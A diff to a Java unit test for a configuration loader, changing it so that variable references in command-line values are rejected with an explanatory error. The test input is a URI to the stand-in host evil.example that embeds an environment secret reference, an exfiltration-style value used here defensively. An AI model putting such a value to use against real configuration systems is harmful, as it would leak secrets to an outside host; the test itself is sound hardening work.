@@ -48,13 +48,18 @@ class PdmConfigTest {
   }
 
   @Test
-  void commandLineValuesAreTakenAsTheyAreAndFileValuesStillReferenceThem() throws Exception {
+  void commandLineValuesHoldNoReferencesAndFileValuesStillReferenceThem() throws Exception {
     Path file = dir.resolve("refs.properties");
     Files.writeString(file, "pdm.mlflow.token=${env:KPASS}\npdm.stream.checkpoint-root=${pdm.warehouse}/cp\n");
-    PdmConfig config = PdmConfig.load(file.toString(), Map.of(
-        "pdm.mlflow.tracking-uri", "http://evil.example/${env:KPASS}/${pdm.mlflow.token}",
-        "pdm.warehouse", "/w"), Map.of("KPASS", "s3cret")::get, true);
-    assertEquals("http://evil.example/${env:KPASS}/${pdm.mlflow.token}", config.get(PdmConfigKeys.MLFLOW_TRACKING_URI));
+    PdmException e = assertThrows(PdmException.class, () -> PdmConfig.load(file.toString(), Map.of(
+        "pdm.mlflow.tracking-uri", "http://evil.example/${env:KPASS}"), Map.of("KPASS", "s3cret")::get, true));
+    assertEquals("Cannot use --set pdm.mlflow.tracking-uri=http://evil.example/${env:KPASS}: references are expanded"
+        + " in config files only, not on the command line, where a job's arguments (an Airflow run's params) could"
+        + " read the driver's environment and secrets (put the key in the --conf file, or let the shell expand the"
+        + " value (--set pdm.mlflow.tracking-uri=\"$NAME\"))", e.getMessage());
+    assertEquals(2, e.exitCode());
+    PdmConfig config = PdmConfig.load(file.toString(), Map.of("pdm.warehouse", "/w"), Map.of("KPASS", "s3cret")::get,
+        true);
     assertEquals("s3cret", config.get(PdmConfigKeys.MLFLOW_TOKEN), "the file's reference to the environment");
     assertEquals("/w/cp", config.get(PdmConfigKeys.STREAM_CHECKPOINT_ROOT), "the file's reference to a command-line value");
   }
